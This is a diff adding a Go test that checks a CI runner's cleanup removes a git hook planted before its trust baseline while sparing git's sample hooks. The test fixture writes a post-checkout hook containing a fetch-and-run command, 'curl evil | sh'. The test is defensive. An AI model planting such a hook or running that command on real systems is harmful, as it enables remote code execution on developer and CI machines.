@@ -187,3 +187,28 @@ func TestHookTrustRootSwapped(t *testing.T) {
 		t.Errorf("the host directory was written: %q, %v", b, entries)
 	}
 }
+
+// A hook planted before the trust baseline was taken (by the step that
+// made the checkout, or left from before) is found and removed: a CI
+// runner's checkout has no hooks but git's samples.
+func TestHookPlantedBeforeBaseline(t *testing.T) {
+	h := newRunnerHost(t)
+	hooks := filepath.Join(h.repo, ".git", "hooks")
+	os.MkdirAll(hooks, 0o755)
+	os.WriteFile(filepath.Join(hooks, "post-checkout"), []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755)
+	os.WriteFile(filepath.Join(hooks, "pre-commit.sample"), []byte("#!/bin/sh\n"), 0o755)
+	state := h.prepare()
+	if code, out := h.step(state, "true"); code != 0 {
+		t.Fatalf("step: exit %d: %s", code, out)
+	}
+	_, out := h.cleanup(state)
+	if !strings.Contains(out, "runtime git-hooks .git/hooks/post-checkout") || strings.Contains(out, "pre-commit.sample") {
+		t.Errorf("cleanup: %s", out)
+	}
+	if _, err := os.Stat(filepath.Join(hooks, "post-checkout")); err == nil {
+		t.Error("the planted hook is still there")
+	}
+	if _, err := os.Stat(filepath.Join(hooks, "pre-commit.sample")); err != nil {
+		t.Errorf("git's sample hook was removed: %v", err)
+	}
+}
